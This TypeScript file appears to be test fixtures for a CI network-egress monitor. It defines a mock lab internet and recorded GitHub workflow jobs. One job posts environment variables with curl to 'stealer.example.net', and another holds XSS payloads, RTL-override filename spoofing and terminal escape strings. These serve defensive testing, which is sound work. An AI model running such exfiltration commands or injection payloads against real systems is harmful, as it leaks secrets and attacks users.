import type { ServerOptions } from '@runwarden/lab'

/** A job whose agent reports to the server. */
export interface RecordedJob {
  repository: string
  /** The workflow's name, run and job, as GitHub tells them. */
  name: string
  run: string
  job: string
  ref?: string
  /** Of `runwarden run`. */
  options: readonly string[]
  /** Its steps, in GitHub's form. */
  workflow: string
  /** How `runwarden run` ends. */
  status?: number
}

/** What answers in the lab's internet. */
export const servers: readonly ServerOptions[] = [
  { name: 'registry.example.org', addresses: ['198.51.100.10'], ports: { http: 80, https: 443 } },
  { name: 'api.example.com', addresses: ['198.51.100.11'], ports: { http: 80, https: 443 } },
  { name: 'telemetry.example.net', addresses: ['198.51.100.12'], ports: { http: 80, https: 443 } },
  { name: 'stealer.example.net', addresses: ['203.0.113.66'], ports: { http: 80, https: 443 } },
]

const workflow = (name: string, job: string, steps: string): string =>
  `name: ${name}\non: push\njobs:\n  ${job}:\n    runs-on: ubuntu-latest\n    steps:\n${steps
    .trim()
    .split('\n')
    .map((line) => `      ${line}`)
    .join('\n')}\n`

const allow = ['--allow', 'registry.example.org:443', '--allow', 'registry.example.org:80']

/** In the order in which they run. What they do is what the tests of the pages look for. */
export const jobs: readonly RecordedJob[] = [
  // Everything allowed: what an ordinary run looks like.
  {
    repository: 'acme/app',
    name: 'CI',
    run: '4100',
    job: 'build',
    options: ['--egress', 'block', ...allow],
    workflow: workflow(
      'CI',
      'build',
      `
- id: install
  run: |
    curl -sS -m 10 https://registry.example.org/left-pad
    mkdir -p node_modules/left-pad && echo 'module.exports = 1' > node_modules/left-pad/index.js
- id: compile
  run: |
    mkdir -p dist
    for part in a b c d e f; do sh -c "cat node_modules/left-pad/index.js > dist/$part.js"; done
- id: check
  run: ls -l dist | wc -l
`,
    ),
  },
  // Blocked, refused and on the block list.
  {
    repository: 'acme/app',
    name: 'CI',
    run: '4101',
    job: 'build',
    options: ['--egress', 'block', ...allow],
    workflow: workflow(
      'CI',
      'build',
      `
- id: install
  run: |
    curl -sS -m 10 https://registry.example.org/left-pad
    node -e 'require("child_process").execSync("curl -s -m 5 http://telemetry.example.net/install || true")'
- id: compile
  run: |
    mkdir -p dist && echo 1 > dist/app.js
    sh -c 'curl -s -m 5 -d "$(env | head -c 200)" http://stealer.example.net/take || true'
    sh -c 'curl -s -m 5 http://203.0.113.66/ || true'
`,
    ),
  },
  {
    repository: 'acme/app',
    name: 'CI',
    run: '4101',
    job: 'test',
    options: ['--egress', 'audit', ...allow],
    workflow: workflow(
      'CI',
      'test',
      `
- id: unit
  run: |
    curl -sS -m 10 https://api.example.com/v1/status
    curl -sS -m 10 -X POST -d x=1 https://api.example.com/v1/results
    curl -sS -m 10 http://telemetry.example.net/test
- id: report
  run: sh -c 'sh -c "sleep 0.2; cat /etc/hostname > result.txt"'
`,
    ),
  },
  // Names that would act or hide, had they a chance.
  {
    repository: 'acme/hostile',
    name: 'Worst',
    run: '4200',
    job: 'strings',
    ref: 'refs/heads/<img src=x onerror=alert(1)>',
    options: ['--egress', 'audit'],
    workflow: workflow(
      'Worst',
      'strings',
      `
- id: names
  run: |
    node <<'END'
    const { writeFileSync, mkdirSync } = require('node:fs')
    const { spawnSync } = require('node:child_process')
    const long = 'x'.repeat(240)
    mkdirSync('d/' + [long, long, long].join('/'), { recursive: true })
    writeFileSync('d/' + [long, long, long].join('/') + '/end.txt', '')
    for (const name of ['invoice.\\u202egpj.exe', '<script>alert(1)<\\u200b', '\\u001b[2J\\u0007', 'a\\nb', '"><svg onload=alert(1)>'])
      writeFileSync(name.replaceAll('/', '_'), '')
    spawnSync('/bin/echo', ['\\u202egpj.exe', '<img src=x onerror=alert(1)>', '</script><script>alert(2)</script>', 'y'.repeat(4000)])
    END
    curl -s -m 5 "http://api.example.com/%3Cscript%3Ealert(1)%3C/script%3E/$(printf 'z%.0s' $(seq 1 1500))" || true
`,
    ),
  },
  // Nothing at all.
  {
    repository: 'acme/empty',
    name: 'Nothing',
    run: '4300',
    job: 'nothing',
    options: ['--egress', 'block'],
    workflow: workflow('Nothing', 'nothing', '- run: true'),
  },
]
